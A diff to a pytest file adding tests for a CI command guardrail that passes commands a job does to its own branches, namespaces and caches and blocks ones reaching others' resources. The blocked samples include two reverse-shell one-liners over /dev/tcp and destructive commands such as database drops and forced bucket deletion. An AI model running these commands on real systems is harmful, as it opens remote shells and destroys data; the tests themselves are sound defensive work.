@@ -297,6 +297,58 @@ def test_the_step_of_a_job_may_publish_the_package(mark: str) -> None:
 
 
 @pytest.mark.parametrize(
+    "action",
+    [
+        "git reset --hard origin/${{ github.base_ref }}",
+        'echo "${{ secrets.SSH_KEY }}" > ~/.ssh/id_ed25519',
+        "git push --force origin $CI_COMMIT_REF_NAME",
+        "git config user.name 'release[bot]'\ngit push --force origin refresh",
+        "kubectl delete namespace ci-$GITHUB_RUN_ID",
+        "git push --force origin gh-pages",
+        "git checkout -B refresh && git commit -am x && git push --force origin refresh",
+        "git tag -f nightly && git push --force origin nightly",
+        "git checkout --orphan pages && git rm -rf .",
+        "gh cache delete --all",
+        "psql -c 'DROP DATABASE app_test'",
+        "docker run --rm --privileged tonistiigi/binfmt --install all",
+        "FROM debian:12\nRUN echo 'source /etc/profile' >> /root/.bashrc\n",
+    ],
+)
+def test_what_a_job_does_to_what_is_its_own_passes(action: str) -> None:
+    assert default_guardrail().check(action).passed
+
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        "git reset --hard; echo ${{ github.ref }}",
+        "git reset --hard '${{ github.ref }}'",
+        "git push --force origin main # ${{ github.ref }}",
+        "git checkout -B refresh && git push --force origin other",
+        "git checkout -B main && git push --force origin main",
+        "git rm -rf . && git checkout --orphan pages",
+        "kubectl delete namespace shop; echo $GITHUB_RUN_ID",
+        "psql -c 'DROP DATABASE contest'",
+        "docker run --rm --privileged debian tonistiigi/binfmt",
+        "aws s3 rb s3://data-${{ github.ref }} --force",
+        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+        "exec 5<>/dev/tcp/shell.example.org/443; bash <&5 >&5",
+        "semantic-release --no-ci",
+        "mongosh shop --eval 'db.users.drop()'",
+    ],
+)
+def test_no_mark_of_a_job_reaches_what_is_somebody_elses(action: str) -> None:
+    assert not default_guardrail().check(action).passed
+
+
+def test_a_mark_of_a_job_says_nothing_where_the_working_copy_was_looked_at() -> None:
+    judge = default_guardrail()
+    action = "git push --force origin $CI_COMMIT_REF_NAME"
+    assert judge.check(action).passed
+    assert not judge.check(action, options=Options(gathered=True)).passed
+
+
+@pytest.mark.parametrize(
     "no_mark", ["true", "# ${{ github.ref }}", "GITHUB_REF=a; echo $GITHUB_REF", "echo '$CI_JOB_ID'"]
 )
 def test_a_package_is_not_published_without_a_job(no_mark: str) -> None:
